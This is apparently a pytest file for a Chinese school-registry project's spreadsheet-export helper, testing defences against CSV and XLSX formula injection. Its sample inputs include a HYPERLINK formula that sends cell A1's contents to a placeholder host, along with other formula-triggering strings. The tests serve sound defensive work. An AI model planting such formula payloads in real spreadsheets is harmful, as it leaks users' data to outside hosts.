"""The one rule every CSV and XLSX export goes through (destreg/lib/spreadsheets.py)."""

import csv
import io
import itertools
from datetime import date

import pytest
from openpyxl import Workbook, load_workbook

from destreg.lib.spreadsheets import csv_row, csv_text_row, xlsx_row

TYPED = ['=HYPERLINK("http://x/?q="&A1,"点击")', "+86 138", "-1", "@x", "\tx", "\rx", "#N/A"]


@pytest.mark.parametrize("write_only", [True, False])
def test_xlsx_text_stays_text_and_our_numbers_stay_numbers(write_only):
    book = Workbook(write_only=write_only)
    sheet = book.create_sheet("s") if write_only else book.active
    sheet.append(xlsx_row(sheet, [*TYPED, -42, 3.5, date(2026, 6, 30), None, "普通文本"]))
    out = io.BytesIO()
    book.save(out)
    cells = next(load_workbook(io.BytesIO(out.getvalue())).active.iter_rows())
    assert [(c.value, c.data_type) for c in cells[: len(TYPED)]] == [(t, "s") for t in TYPED]
    assert [c.value for c in cells[len(TYPED) : len(TYPED) + 2]] == [-42, 3.5]
    assert [c.data_type for c in cells[len(TYPED) : len(TYPED) + 2]] == ["n", "n"]
    assert cells[len(TYPED) + 2].is_date  # a date we write stays a date
    assert (cells[-1].value, cells[-1].quotePrefix) == ("普通文本", False)


def test_xlsx_drops_control_characters_instead_of_failing():
    book = Workbook()
    sheet = book.active
    sheet.append(xlsx_row(sheet, ["甲\x01乙", "=\x02x"]))
    assert [c.value for c in sheet[1]] == ["甲乙", "=x"]
    assert sheet["B1"].data_type == "s"


def test_csv_prefixes_what_could_start_a_formula_and_keeps_numbers():
    row = csv_row([*TYPED, -42, "普通", "2026-06-30"])
    assert row[: len(TYPED) - 1] == ["'" + text for text in TYPED[:-1]]
    assert row[len(TYPED) - 1 :] == ["#N/A", -42, "普通", "2026-06-30"]
    text = io.StringIO()
    csv.writer(text).writerow(row)
    assert next(csv.reader(io.StringIO(text.getvalue())))[7] == "-42"


def test_the_whole_row_check_agrees_with_the_cell_by_cell_one():
    """csv_text_row (the export's fast way) prefixes exactly the cells csv_row does, wherever
    they stand in the row, even next to a NUL or a formula in the middle of a text."""
    cells = ["", "普通", "a=b", "x\x00=y", "\x00", *TYPED, "=1"]
    for row in itertools.product(cells, repeat=3):
        assert csv_text_row(list(row)) == csv_row(row), row
    assert csv_text_row(["=1", 5, None]) == ["'=1", 5, None]  # not only texts: cell by cell
    assert csv_text_row(["学号", "2026-06-30"]) == ["学号", "2026-06-30"]
